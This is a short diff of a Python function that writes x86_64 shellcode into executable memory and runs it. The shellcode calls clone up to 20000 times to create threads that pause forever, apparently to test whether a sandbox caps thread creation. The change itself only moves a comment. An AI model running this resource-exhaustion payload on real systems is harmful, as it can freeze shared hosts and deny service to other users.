@@ -58,7 +58,8 @@ import ctypes, mmap, os
 def attempt():
     if os.uname().machine != "x86_64": return False
     area = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
-    area.write(bytes.fromhex(  # while (count < 20000 && (id = clone(THREAD...)) >= 0) { if (!id) for (;;) pause(); count++; }
+    # while (count < 20000 && (id = clone(THREAD)) >= 0) { if (!id) for (;;) pause(); count++; }
+    area.write(bytes.fromhex(
         "5331db81fb204e00007d20b838000000bf000f050031f631d24d31d24d31"
         "c00f0585c078067408ffc3ebd889d85bc3b8220000000f05ebf7"))
     return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))() > 2000
